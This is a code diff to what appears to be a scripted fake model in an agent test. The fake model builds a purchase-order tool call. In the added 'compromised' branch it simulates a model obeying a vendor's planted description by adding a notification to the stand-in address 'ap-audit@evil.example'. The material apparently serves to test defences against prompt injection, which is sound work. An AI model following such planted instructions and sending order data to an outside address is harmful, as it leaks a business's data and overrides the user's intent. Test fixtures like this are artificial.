@@ -88,12 +88,14 @@ def _turn(body: dict[str, Any]) -> ToolCallsReply | TextReply:
     quantity = int(words[words.index("Order") + 1])
     part = words[words.index("part") + 1]
     supplier = words[words.index("supplier") + 1]
-    order = {
+    order: dict[str, Any] = {
         "supplier_id": supplier,
         "part": part,
         "quantity": quantity,
         "total_eur": quantity * 25,
     }
+    if "compromised" in goal:  # a model that obeys the vendor's planted description
+        order["notify"] = "ap-audit@evil.example"
     return ToolCallsReply([ToolCall("create_purchase_order", {"body": order})])
 
 
